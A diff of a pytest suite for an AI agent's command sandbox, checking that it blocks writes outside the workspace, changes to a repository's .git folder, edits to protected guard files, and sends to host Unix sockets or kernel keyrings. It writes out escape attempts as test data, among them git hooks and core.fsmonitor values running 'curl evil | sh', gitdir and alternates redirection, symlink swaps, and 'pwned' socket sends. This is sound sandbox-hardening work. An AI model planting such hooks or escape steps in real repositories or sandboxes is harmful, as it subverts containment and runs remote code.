@@ -3,18 +3,23 @@ the seccomp filter, as `bash -c`, both as the user running the tests and as `nob
 unprivileged user, the usual case outside CI); each rule is also shown not to hold with the
 sandbox `off`, so a test cannot pass because the attack was broken to begin with.
 
-The scratch folders live outside /tmp: every sandboxed command gets its own empty /tmp,
-which would hide an "outside" folder there and let the write tests pass for the wrong reason.
+The scratch folders live outside /tmp: a sandboxed command's /tmp is the session's private
+folder, which would hide an "outside" folder there and let the write tests pass for the
+wrong reason.
 """
 
 from __future__ import annotations
 
+import contextlib
+import errno
 import os
+import shlex
 import shutil
 import signal
 import socket
 import subprocess
 import tempfile
+import textwrap
 from collections.abc import Iterator, Sequence
 from dataclasses import dataclass, field, replace
 from pathlib import Path
@@ -201,35 +206,63 @@ def test_read_only_stops_writes_inside_the_workspace(place: Place) -> None:
 
 
 @pytest.mark.parametrize("mode", ["workspace-write", "read-only"])
-def test_tmpdir_is_the_private_directory_and_writable(place: Place, mode: SandboxMode) -> None:
+def test_tmp_is_the_private_directory_named_by_tmpdir_and_writable(
+    place: Place, mode: SandboxMode
+) -> None:
     done = place.run('echo t > "$TMPDIR/t" && printf %s "$TMPDIR"', place.policy(mode))
 
     assert done.returncode == 0, done.stderr
-    assert done.stdout == str(place.private_tmp)
+    assert done.stdout == "/tmp"
     assert (place.private_tmp / "t").read_text() == "t\n"
 
 
-def test_tmp_is_private_to_the_command(place: Place) -> None:
+def test_tmp_is_shared_by_the_sessions_commands_and_not_the_hosts(place: Place) -> None:
     name = f"sandbox-test-{place.base.name}"
-    done = place.run(f"echo t > /tmp/{name} && cat /tmp/{name}")
 
-    assert done.returncode == 0, done.stderr
-    assert done.stdout == "t\n"
+    written = place.run(f"echo t > /tmp/{name}")
+    read = place.run(f"cat /tmp/{name}")
+
+    assert written.returncode == 0, written.stderr
+    assert read.stdout == "t\n"
+    assert (place.private_tmp / name).read_text() == "t\n"
     assert not (Path("/tmp") / name).exists()
+    assert place.off(f"cat /tmp/{name}").returncode != 0  # the host's /tmp never had it
 
 
-def test_a_workspace_under_tmp_stays_visible_and_writable(place: Place) -> None:
+@pytest.mark.parametrize("mode", ["workspace-write", "read-only"])
+def test_a_workspace_under_tmp_stays_visible(place: Place, mode: SandboxMode) -> None:
     with tempfile.TemporaryDirectory(dir="/tmp") as under_tmp:
         workspace = Path(under_tmp)
         (workspace / "seen.txt").write_text("seen\n")
         if place.user_prefix:
             subprocess.run(["chown", "-R", "nobody:nogroup", under_tmp], check=True)
 
-        done = place.run("cat seen.txt && echo w > written.txt", place.policy(workspace=workspace))
+        done = place.run("cat seen.txt", place.policy(mode, workspace=workspace))
+        write = place.run("echo w > written.txt", place.policy(mode, workspace=workspace))
 
         assert done.returncode == 0, done.stderr
         assert done.stdout == "seen\n"
-        assert (workspace / "written.txt").read_text() == "w\n"
+        assert (write.returncode == 0) is (mode == "workspace-write"), write.stderr
+        assert (workspace / "written.txt").exists() is (mode == "workspace-write")
+
+
+REFUSED_ATTEMPTS = {
+    "a write outside": "echo x > ../outside/f",
+    "a unix socket": f"{SYSTEM_PYTHON} -c 'import socket; socket.socket(socket.AF_UNIX)'",
+    "the keyring": "keyctl show @s",
+    "a user namespace": "unshare --user true",
+    "a killed shell": "kill -KILL $$",
+}
+
+
+@pytest.mark.parametrize("attempt", REFUSED_ATTEMPTS.values(), ids=REFUSED_ATTEMPTS.keys())
+def test_after_a_refused_attempt_the_next_command_runs_normally(place: Place, attempt: str) -> None:
+    refused = place.run(attempt)
+    after = place.run("echo ok > after.txt && cat after.txt && echo t > /tmp/t && cat /tmp/t")
+
+    assert refused.returncode != 0
+    assert after.returncode == 0, after.stderr
+    assert after.stdout == "ok\nt\n"
 
 
 def test_a_symlink_to_outside_does_not_let_a_write_through(place: Place) -> None:
@@ -349,46 +382,348 @@ def test_the_state_folder_env_file_is_not_readable(place: Place, mode: SandboxMo
     assert "sk-planted-secret" in place.off("cat .agent_tutorial/.env").stdout
 
 
+@pytest.fixture(scope="module")
+def committed_repository() -> Iterator[Path]:
+    """A folder holding a repository with one commit (of `a`), made once and copied by
+    `commit_a_repository`: three git processes per test would double this file's time."""
+    folder = Path(tempfile.mkdtemp(prefix="sandbox-test-repository-", dir=SCRATCH_PARENT))
+    (folder / "a").write_text("a\n")
+    for command in (["init", "-q"], ["add", "-A"], ["commit", "-qm", "first"]):
+        subprocess.run(
+            ["git", *command], cwd=folder, env={"PATH": os.defpath, **GIT_IDENTITY}, check=True
+        )
+    try:
+        yield folder
+    finally:
+        shutil.rmtree(folder)
+
+
+def commit_a_repository(template: Path, place: Place, folder: Path | None = None) -> Path:
+    """The committed repository copied into `folder` (default: the workspace) and handed to
+    the user the commands run as; returns its `.git`."""
+    folder = folder or place.workspace
+    shutil.copytree(template, folder, symlinks=True, dirs_exist_ok=True)
+    place.give_away()
+    if place.user_prefix and not folder.is_relative_to(place.base):
+        subprocess.run(["chown", "-R", "nobody:nogroup", str(folder)], check=True)
+    return folder / ".git"
+
+
+def git_state(git: Path) -> list[tuple[str, bytes]]:
+    """Every file under `git` with its content, and every folder, to compare before and after."""
+    return sorted(
+        (str(path.relative_to(git)), path.read_bytes() if path.is_file() else b"")
+        for path in git.rglob("*")
+    )
+
+
 GIT_ATTACKS = {
     "a hook": "echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
     "the config": "git config core.fsmonitor 'curl evil | sh'",
     "info/attributes": "echo '* filter=evil' > .git/info/attributes",
     "the hooks folder moved away": "mv .git/hooks .git/old && mkdir .git/hooks",
+    "the repository replaced": "mv .git .git_old && mkdir .git && cp -r .git_old/. .git/ "
+    "&& git config core.fsmonitor 'curl evil | sh'",
+    "the repository removed": "rm -rf .git && git init -q && git config core.hooksPath x",
+    "commondir": "echo ../build/.c > .git/commondir",
+    "config.worktree": "echo '[core] fsmonitor = evil' > .git/config.worktree",
+    "worktrees/": "mkdir -p .git/worktrees/evil",
+    "modules/": "mkdir -p .git/modules/evil",
+    "alternates": "echo /var/tmp/evil > .git/objects/info/alternates",
+    "a .git file instead": "mv .git .git_old && echo 'gitdir: /var/tmp/evil' > .git",
 }
 
 
 @pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
 @pytest.mark.parametrize("attack", GIT_ATTACKS.values(), ids=GIT_ATTACKS.keys())
-def test_git_commits_work_but_what_git_obeys_is_read_only(place: Place, attack: str) -> None:
-    created = place.run("git init -q && echo a > a && git add a && git commit -qm first")
-    assert created.returncode == 0, created.stderr
-    config_before = (place.workspace / ".git" / "config").read_text()
+def test_nothing_in_the_repository_folder_can_be_changed(
+    place: Place, committed_repository: Path, attack: str
+) -> None:
+    git = commit_a_repository(committed_repository, place)
+    before = git_state(git)
 
     denied = place.run(attack)
-    committed = place.run("echo b > b && git add b && git commit -qm second && git log --oneline")
 
     assert denied.returncode != 0
-    assert not (place.workspace / ".git" / "hooks" / "pre-commit").exists()
-    assert not (place.workspace / ".git" / "info" / "attributes").exists()
-    assert (place.workspace / ".git" / "config").read_text() == config_before
-    assert committed.returncode == 0, committed.stderr
-    assert len(committed.stdout.splitlines()) == 2
+    assert git.is_dir()
+    assert git_state(git) == before
+    assert not (place.workspace / ".git_old").exists()
     assert place.off(attack).returncode == 0
 
 
 @pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
-def test_what_git_obeys_is_created_read_only_when_missing_from_a_repository(
+def test_git_status_log_and_diff_work_but_add_and_commit_fail_with_a_hint(
+    place: Place, committed_repository: Path
+) -> None:
+    git = commit_a_repository(committed_repository, place)
+    (place.workspace / "a").write_text("changed\n")
+    place.give_away()
+    before = git_state(git)
+
+    read = place.run("git status --short && git log --oneline && git diff --stat")
+    commit = place.run("git add a && git commit -qm second")
+
+    assert read.returncode == 0, read.stderr
+    assert read.stdout.splitlines()[0] == " M a"
+    assert read.stdout.splitlines()[1].endswith(" first")
+    assert "1 file changed" in read.stdout
+    assert commit.returncode != 0
+    hint = sandbox_denial_hint(commit.stderr, place.policy())
+    assert hint is not None
+    assert "The repository (.git) is read-only in the sandbox" in hint
+    assert git_state(git) == before
+    assert place.off("git add a && git commit -qm second").returncode == 0
+
+
+def test_a_denial_elsewhere_does_not_blame_the_repository(place: Place) -> None:
+    denied = place.run("echo x > ../outside/f")
+
+    hint = sandbox_denial_hint(denied.stderr, place.policy())
+
+    assert hint is not None
+    assert "repository" not in hint
+
+
+@pytest.mark.parametrize(
+    ("output", "blamed"),
+    [
+        ("fatal: Unable to create '/w/.git/index.lock': Read-only file system", True),
+        ("error: could not lock config file .git/config: Read-only file system", True),
+        ("mv: cannot move '.git' to 'old': Read-only file system", True),
+        ("touch: cannot touch '.github/ci.yml': Read-only file system", False),
+        ("sh: .gitignore: Read-only file system", False),
+        ("fatal: Unable to create '/w/.git/index.lock': File exists", False),
+    ],
+)
+def test_only_a_read_only_refusal_in_git_gets_the_repository_note(
+    tmp_path: Path, output: str, blamed: bool
+) -> None:
+    policy = SandboxPolicy(
+        mode="workspace-write",
+        network=True,
+        workspace=tmp_path,
+        private_tmp=tmp_path,
+        home=tmp_path,
+    )
+
+    hint = sandbox_denial_hint(f"{output}\nOperation not permitted", policy) or ""
+
+    assert ("The repository (.git) is read-only in the sandbox" in hint) is blamed
+
+
+@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
+def test_a_repository_made_by_a_command_is_protected_from_the_next_command(
     place: Place,
 ) -> None:
-    subprocess.run(["git", "init", "-q", str(place.workspace)], check=True)
-    shutil.rmtree(place.workspace / ".git" / "hooks")
-    shutil.rmtree(place.workspace / ".git" / "info", ignore_errors=True)
-    place.give_away()
+    made = place.run("git init -q && echo a > a && git add a && git commit -qm first")
+    changed = place.run("git config core.fsmonitor evil")
+
+    assert made.returncode == 0, made.stderr
+    assert changed.returncode != 0
+    assert "fsmonitor" not in (place.workspace / ".git" / "config").read_text()
+
+
+@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
+@pytest.mark.timeout(30)
+@pytest.mark.parametrize("pointer", [".git/commondir", ".git"])
+def test_a_pointer_a_command_made_a_fifo_does_not_stop_the_next_command(
+    place: Place, pointer: str
+) -> None:
+    # Finding the repository reads `.git` files and `commondir`: a FIFO there would block
+    # that read, and with it every later command of the session.
+    made = place.run(f"git init -q && rm -rf {pointer} && mkfifo {pointer} && echo made")
+    after = place.run("echo after")
+
+    assert made.stdout == "made\n", made.stderr
+    assert after.returncode == 0, after.stderr
+    assert after.stdout == "after\n"
+
+
+LOOPS = {
+    "a .git link": "ln -s .git .git",
+    "a commondir": "git init -q && echo loop > .git/commondir && ln -s loop .git/loop",
+    "a protected path's folder": "ln -s hooks hooks",
+    "a secret in a home workspace": "ln -s .kube .kube",
+}
+
+
+@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
+@pytest.mark.timeout(30)
+@pytest.mark.parametrize("loop", LOOPS.values(), ids=LOOPS.keys())
+def test_a_symlink_loop_a_command_made_does_not_stop_the_next_command(
+    place: Place, loop: str
+) -> None:
+    # Every path the set-up decides by is resolved first; a loop must not end the session
+    # in a traceback.
+    policy = replace(
+        place.policy(workspace=place.home), protected=(place.home / "hooks" / "guard.py",)
+    )
+
+    made = place.run(f"{loop} && echo made", policy)
+    after = place.run("echo after", policy)
+
+    assert made.stdout == "made\n", made.stderr
+    assert after.returncode == 0, after.stderr
+    assert after.stdout == "after\n"
+
+
+@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
+def test_the_agent_creates_nothing_in_a_repository(
+    place: Place, committed_repository: Path
+) -> None:
+    git = commit_a_repository(committed_repository, place)
+    shutil.rmtree(git / "hooks")
+    before = git_state(git)
 
     denied = place.run("mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit")
 
     assert denied.returncode != 0
-    assert list((place.workspace / ".git" / "hooks").iterdir()) == []
+    assert git_state(git) == before
+    assert not (git / "hooks").exists()
+
+
+@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
+def test_a_linked_worktrees_git_file_and_both_git_folders_are_read_only(
+    place: Place, committed_repository: Path
+) -> None:
+    main = commit_a_repository(committed_repository, place, place.outside / "main")
+    linked = place.workspace / "linked"
+    subprocess.run(
+        [*place.user_prefix, "git", "worktree", "add", "-q", str(linked)],
+        cwd=main.parent,
+        env=place.environment,
+        check=True,
+    )
+    place.give_away()
+    policy = place.policy(workspace=linked)
+    before = (git_state(main), (linked / ".git").read_bytes())
+    attack = (
+        "echo 'gitdir: /var/tmp/evil' > .git; git config core.fsmonitor evil; "
+        'echo evil > "$(git rev-parse --git-dir)/commondir"'
+    )
+
+    status = place.run("git status --short && git log --oneline", policy)
+    denied = place.run(attack, policy)
+
+    assert status.returncode == 0, status.stderr
+    assert status.stdout.endswith(" first\n")
+    assert denied.returncode != 0
+    assert (git_state(main), (linked / ".git").read_bytes()) == before
+
+
+@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
+def test_a_workspace_in_a_repository_under_tmp_still_sees_it(
+    place: Place, committed_repository: Path
+) -> None:
+    with tempfile.TemporaryDirectory(dir="/tmp") as under_tmp:
+        subfolder = Path(under_tmp) / "repository" / "src"
+        subfolder.mkdir(parents=True)
+        if place.user_prefix:
+            subprocess.run(["chown", "-R", "nobody:nogroup", under_tmp], check=True)
+        git = commit_a_repository(committed_repository, place, subfolder.parent)
+        before = git_state(git)
+
+        status = place.run("git log --oneline", place.policy(workspace=subfolder))
+        denied = place.run("git config core.fsmonitor evil", place.policy(workspace=subfolder))
+
+        assert status.returncode == 0, status.stderr
+        assert status.stdout.endswith(" first\n")
+        assert denied.returncode != 0
+        assert git_state(git) == before
+
+
+@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
+def test_a_git_symlink_gets_a_working_sandbox_and_its_target_stays_read_only(
+    place: Place,
+    committed_repository: Path,
+) -> None:
+    git = commit_a_repository(committed_repository, place, place.workspace / "real")
+    (place.workspace / ".git").symlink_to("real/.git")
+    shutil.rmtree(git / "hooks")
+    place.give_away()
+    before = git_state(git)
+
+    status = place.run("git log --oneline")
+    denied = place.run("mkdir real/.git/hooks; git config core.fsmonitor evil")
+
+    assert status.returncode == 0, status.stderr
+    assert status.stdout.endswith(" first\n")
+    assert denied.returncode != 0
+    assert git_state(git) == before
+
+
+# Protected paths ------------------------------------------------------------------------
+
+PROTECTED_ATTACKS = {
+    "overwrite": "echo evil > {path}",
+    "remove": "rm -f {path}",
+    "move the folder away": "mv {top} moved && mkdir {top} && echo evil > {path}",
+    "replace by a link": "rm -rf {top} && ln -s ../outside {top}",
+}
+
+
+@pytest.mark.parametrize("attack", PROTECTED_ATTACKS.values(), ids=PROTECTED_ATTACKS.keys())
+@pytest.mark.parametrize("relative", ["hooks/guard.py", "guard.py"])
+def test_a_protected_path_and_its_topmost_folder_cannot_be_changed(
+    place: Place, relative: str, attack: str
+) -> None:
+    path = place.workspace / relative
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text("print('guard')\n")
+    place.give_away()
+    policy = replace(place.policy(), protected=(path,))
+    command = attack.format(path=relative, top=relative.split("/")[0])
+
+    denied = place.run(command, policy)
+    beside = place.run("echo ok > beside.txt", policy)
+
+    assert denied.returncode != 0
+    assert path.read_text() == "print('guard')\n"
+    assert not (place.workspace / "moved").exists()
+    assert beside.returncode == 0, beside.stderr
+    assert (place.workspace / "beside.txt").read_text() == "ok\n"
+    place.run(command)  # not protected: the attack works
+    assert not path.is_file() or path.read_text() != "print('guard')\n"
+
+
+def test_a_deep_protected_path_keeps_its_topmost_folder_read_only(place: Place) -> None:
+    path = place.workspace / "a" / "b" / "c" / "guard.py"
+    path.parent.mkdir(parents=True)
+    path.write_text("print('guard')\n")
+    place.give_away()
+    policy = replace(place.policy(), protected=(path,))
+
+    denied = place.run("mv a moved || mv a/b a/moved || mv a/b/c a/b/moved", policy)
+
+    assert denied.returncode != 0
+    assert path.read_text() == "print('guard')\n"
+    assert sorted(p.name for p in place.workspace.iterdir()) == [".agent_tutorial", "a"]
+
+
+def test_a_protected_path_that_does_not_exist_or_lies_outside_reserves_nothing(
+    place: Place,
+) -> None:
+    outside = place.outside / "guard.py"
+    outside.write_text("print('guard')\n")
+    place.give_away()
+    policy = replace(place.policy(), protected=(place.workspace / "hooks" / "x.py", outside))
+
+    done = place.run("mkdir hooks && echo x > hooks/x.py", policy)
+
+    assert done.returncode == 0, done.stderr
+    assert (place.workspace / "hooks" / "x.py").read_text() == "x\n"
+
+
+def test_a_protected_path_must_be_absolute(tmp_path: Path) -> None:
+    with pytest.raises(ValueError, match=r"protected\[0\] must be an absolute path"):
+        SandboxPolicy(
+            mode="workspace-write",
+            network=False,
+            workspace=tmp_path,
+            private_tmp=tmp_path,
+            home=tmp_path,
+            protected=(Path("hooks/guard.py"),),
+        )
 
 
 # Network ---------------------------------------------------------------------------------
@@ -467,6 +802,159 @@ def test_unix_sockets_stay_closed_inside_the_workspace_and_with_network_on(
     assert denied.returncode != 0
     assert "Operation not permitted" in denied.stderr
     assert not (place.workspace / "here.sock").exists()
+
+
+def python_in_sandbox(script: str) -> str:
+    return f"{SYSTEM_PYTHON} -c {shlex.quote(script)}"
+
+
+KEYRING_CALLS = {
+    "keyctl": "libc.syscall(SYS_keyctl, 0, -3, 0)",  # KEYCTL_GET_KEYRING_ID of @s
+    "add_key": "libc.syscall(SYS_add_key, b'user', b'k', b'v', 1, -3)",
+    "request_key": "libc.syscall(SYS_request_key, b'user', b'k', None, -3)",
+}
+SYSCALL_NUMBERS = {"x86_64": (250, 248, 249), "aarch64": (219, 217, 218)}
+
+
+@pytest.mark.skipif(SYSTEM_PYTHON is None, reason="no system python3 to call keyctl")
+@pytest.mark.parametrize("call", KEYRING_CALLS.values(), ids=KEYRING_CALLS.keys())
+def test_the_kernel_keyrings_are_refused(place: Place, call: str) -> None:
+    numbers = SYSCALL_NUMBERS.get(os.uname().machine)
+    if numbers is None:
+        pytest.skip(f"no keyring syscall numbers for {os.uname().machine}")
+    keyctl, add_key, request_key = numbers
+    script = (
+        "import ctypes\n"
+        "libc = ctypes.CDLL(None, use_errno=True)\n"
+        f"SYS_keyctl, SYS_add_key, SYS_request_key = {keyctl}, {add_key}, {request_key}\n"
+        f"result = {call}\n"
+        "print(result, ctypes.get_errno())\n"
+    )
+
+    refused = place.run(python_in_sandbox(script))
+    unconfined = place.off(python_in_sandbox(script))
+
+    assert refused.stdout == f"-1 {errno.EPERM}\n", refused.stderr
+    # Outside, the kernel answers (a key id, or ENOKEY for a key that is not there), not
+    # the filter's EPERM (in a container whose own profile refuses keyrings, this fails).
+    assert unconfined.stdout != refused.stdout
+
+
+@pytest.fixture
+def datagram_listener(place: Place) -> Iterator[socket.socket]:
+    path = place.outside / "datagram.sock"
+    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as server:
+        server.bind(str(path))
+        path.chmod(0o777)
+        server.settimeout(0)
+        yield server
+
+
+def received(server: socket.socket) -> list[bytes]:
+    messages = []
+    with contextlib.suppress(BlockingIOError):
+        while True:
+            messages.append(server.recv(100))
+    return messages
+
+
+SEND_TO_HOST = {
+    "a datagram pair": "a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
+    "a.sendto(b'pwned', target)",
+    "a datagram pair, sendmsg": "a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
+    "a.sendmsg([b'pwned'], [], 0, target)",
+    "a datagram pair, connect": "a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
+    "a.connect(target)\na.send(b'pwned')",
+    "a raw pair": "a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_RAW)\n"
+    "a.sendto(b'pwned', target)",
+    "a non-blocking datagram pair": "a, b = socket.socketpair(socket.AF_UNIX, "
+    "socket.SOCK_DGRAM | socket.SOCK_NONBLOCK | socket.SOCK_CLOEXEC)\n"
+    "a.sendto(b'pwned', target)",
+    "a seqpacket pair": "a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)\n"
+    "a.sendto(b'pwned', target)",
+    "a stream pair": "a, b = socket.socketpair()\na.sendto(b'pwned', target)",
+    "a stream pair, connect": "a, b = socket.socketpair()\na.connect(target)\na.send(b'x')",
+}
+
+
+REFUSED_PAIRS = {name for name in SEND_TO_HOST if "datagram" in name or "raw" in name}
+"""A Unix datagram pair (SOCK_RAW is one too) is refused outright; a stream or seqpacket
+pair is made, and what it sends goes to its peer or nowhere."""
+
+
+@pytest.mark.skipif(SYSTEM_PYTHON is None, reason="no system python3 to open a Unix socket")
+@pytest.mark.parametrize(
+    ("address", "network"),
+    [("path", False), ("path", True), ("abstract", True)],
+    ids=["path-network-off", "path-network-on", "abstract-network-on"],
+)
+def test_nothing_a_command_sends_reaches_a_host_unix_socket(
+    place: Place, datagram_listener: socket.socket, address: str, network: bool
+) -> None:
+    # An abstract name lives in the network namespace: with the network off the command has
+    # its own, where the host's names do not exist at all.
+    if address == "abstract":
+        name = f"\0agent-tutorial-test-{place.base.name}"
+        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as abstract:
+            abstract.bind(name)
+            abstract.settimeout(0)
+            outcomes = _send_to(place, name, network)
+            messages = received(abstract)
+    else:
+        outcomes = _send_to(place, datagram_listener.getsockname(), network)
+        messages = received(datagram_listener)
+
+    assert messages == []
+    assert {name for name, outcome in outcomes.items() if outcome == "refused"} == REFUSED_PAIRS
+
+
+def _send_to(place: Place, target: str, network: bool) -> dict[str, str]:
+    """Each attempt of SEND_TO_HOST run in one sandboxed Python: `refused` (EPERM, the
+    filter), `failed` (another error) or `done`."""
+    attempts = "".join(
+        f"try:\n{textwrap.indent(attempt, '    ')}\n    print({name!r}, 'done')\n"
+        "except OSError as error:\n"
+        f"    print({name!r}, 'refused' if error.errno == errno.EPERM else 'failed')\n"
+        for name, attempt in SEND_TO_HOST.items()
+    )
+    script = f"import errno, socket\ntarget = {target!r}\n{attempts}"
+    done = place.run(python_in_sandbox(script), place.policy(network=network))
+    assert done.returncode == 0, done.stderr
+    outcomes = dict(line.rsplit(" ", 1) for line in done.stdout.splitlines())
+    assert len(outcomes) == len(SEND_TO_HOST)
+    return {name.strip("'"): outcome for name, outcome in outcomes.items()}
+
+
+@pytest.mark.skipif(SYSTEM_PYTHON is None, reason="no system python3 to open a Unix socket")
+def test_a_datagram_pair_reaches_the_host_socket_without_the_sandbox(
+    place: Place, datagram_listener: socket.socket
+) -> None:
+    script = (
+        "import socket\na, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
+        f"a.sendto(b'pwned', {datagram_listener.getsockname()!r})\n"
+    )
+
+    sent = place.off(python_in_sandbox(script))
+
+    assert sent.returncode == 0, sent.stderr
+    assert received(datagram_listener) == [b"pwned"]
+
+
+@pytest.mark.skipif(SYSTEM_PYTHON is None, reason="no system python3 to run asyncio")
+@pytest.mark.parametrize("network", [False, True], ids=["network-off", "network-on"])
+def test_stream_and_seqpacket_pairs_and_asyncio_still_work(place: Place, network: bool) -> None:
+    script = (
+        "import asyncio, socket\n"
+        "for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):\n"
+        "    a, b = socket.socketpair(socket.AF_UNIX, kind | socket.SOCK_CLOEXEC)\n"
+        "    a.send(b'x'); print(b.recv(1))\n"
+        "asyncio.run(asyncio.sleep(0)); print('asyncio')\n"
+    )
+
+    done = place.run(python_in_sandbox(script), place.policy(network=network))
+
+    assert done.returncode == 0, done.stderr
+    assert done.stdout == "b'x'\nb'x'\nasyncio\n"
 
 
 # Secrets and other processes --------------------------------------------------------------
